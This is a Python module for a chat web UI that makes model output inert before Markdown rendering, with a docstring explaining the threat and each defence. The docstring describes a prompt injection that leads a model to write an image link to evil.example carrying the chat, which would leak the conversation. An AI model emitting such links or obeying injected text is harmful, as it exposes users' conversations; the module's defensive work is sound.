"""Model text made inert before the visitor's browser renders it as Markdown.

A model's answer (and anything a worker names itself: model ids, error text) is attacker-
controlled: a prompt injection can make a model write `![x](https://evil.example/?q=<the chat>)`,
and a browser that renders it fetches the URL, leaking the conversation. The page renders text
with Gradio's client-side Markdown (marked, then a sanitiser that keeps `<img src=https://...>`),
so every string the page shows as Markdown passes `neutralize()` first, on the server
(`webui.components` does it for every Chatbot and Markdown value, whichever handler produced it).

What it guarantees, without parsing Markdown the way the browser does (any disagreement between
two parsers would be a way through):
- **No raw HTML**: every `<` followed by a letter, `/`, `!` or `?` gets a zero-width space after
  it. Raw HTML tags, comments, processing instructions, CDATA and `<scheme:...>` autolinks all
  need one of those right after the `<`, for marked and for the HTML parser alike, so none can
  form: `<img>`, `<iframe>`, `<video>`/`<audio>`/`<source>`, `<link>`, `<style>` and CSS `url()`
  in a `style` attribute show as text. HTML entities (`&lt;img&gt;`) render as text anyway.
- **No Markdown images**: every `![` gets a zero-width space between `!` and `[`, so inline,
  reference (`![x][ref]`, `![ref]`) and nested images become a `!` and an ordinary link.
- **No Mermaid diagrams** (Gradio renders ```` ```mermaid ```` blocks with HTML labels): the
  fence's info string is broken the same way, so the block shows as code.
- **Links stay clickable**; a link is fetched only when the visitor clicks it (Gradio opens it in
  a new tab with `rel="noopener noreferrer"`), and the page tells the browser not to prefetch DNS
  for them or send a Referer (`webui.app`'s response headers). `javascript:` URLs are dropped by
  Gradio's sanitiser. LaTeX (`$$...$$`) renders with KaTeX, whose URL commands are off.

The zero-width space is invisible, so text reads the same. Code must also copy the same, so the
body of a fenced code block (the browser shows it literally) is left alone, but only where that
is certain: a fence opened at the start of a line, with no Markdown construct around it that
could change where the browser's parser sees it end. At anything ambiguous (a line that only one
of CommonMark and marked would take as the closing fence, a reference definition whose title may
run over lines, a `$$` that Gradio cuts out before parsing), the rest of the text gets no such
exemption. `webui.app` also sends a Content-Security-Policy that allows images, media and frames
only from the page's own origin, so a way through this would still fetch nothing.

`restore()` undoes `neutralize()` on text the browser sends back (the chat history), so the model
sees its own words.
"""

from __future__ import annotations

import re

ZWSP = "\u200b"
"""Zero-width space: invisible, and neither an ASCII letter nor Markdown punctuation."""

_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
_IMAGE_START = re.compile(r"!(?=\[)")
_MERMAID_FENCE = re.compile(r"```(?=mermaid)")
_RESTORE = re.compile(f"(<|!|```){ZWSP}(?=[A-Za-z/!?]|\\[|mermaid)")
_NEWLINES = re.compile(r"\r\n?")

# A fence opened at column 0: three or more backticks (an info string without backticks) or
# tildes. Indented fences may sit in a list item that a less indented line ends, so they get no
# exemption.
_OPENER = re.compile(r"(`{3,})[^`]*|(~{3,}).*")
# Anything either parser might take as a closing fence: the fence character three times after
# any indentation.
_MAYBE_CLOSER = re.compile(r"\s*(`{3,}|~{3,})")
# A reference definition's `]:`. Its title may run over several lines and swallow a fence line.
_DEFINITION = re.compile(r"\]\s*:")


def _inert(text: str) -> str:
    text = _TAG_START.sub("<" + ZWSP, text)
    text = _IMAGE_START.sub("!" + ZWSP, text)
    return _MERMAID_FENCE.sub("```" + ZWSP, text)


def _is_certain_closer(line: str, fence: str) -> bool:
    """A closing fence for CommonMark and marked alike: up to 3 spaces, the fence character at
    least as often as in the opener, then only spaces."""
    stripped = line.rstrip(" ")
    body = stripped.lstrip(" ")
    return (len(stripped) - len(body) <= 3 and len(body) >= len(fence)
            and body == fence[0] * len(body))


def neutralize(text: str) -> str:
    """`text` with nothing that makes a browser fetch a URL when rendered as Markdown."""
    if not text:
        return text
    lines = _NEWLINES.sub("\n", text).split("\n")
    exempt_allowed = "$$" not in text
    fence: str | None = None  # the open fence's marker, while inside an exempt code block
    out: list[str] = []
    for line in lines:
        if fence is not None:
            if _is_certain_closer(line, fence):
                fence = None
                out.append(line)
                continue
            maybe = _MAYBE_CLOSER.match(line)
            if maybe and maybe.group(1)[0] == fence[0]:
                fence = None  # the parsers may disagree on whether the block ended here
                exempt_allowed = False
                out.append(_inert(line))
                continue
            out.append(_MERMAID_FENCE.sub("```" + ZWSP, line))
            continue
        opener = _OPENER.fullmatch(line) if exempt_allowed else None
        if opener:
            fence = opener.group(1) or opener.group(2)
        elif _DEFINITION.search(line):
            exempt_allowed = False
        out.append(_inert(line))
    return "\n".join(out)


def restore(text: str) -> str:
    """Undo `neutralize` (the zero-width spaces it put in; newlines stay normalised)."""
    return _RESTORE.sub(r"\1", text) if text and ZWSP in text else text
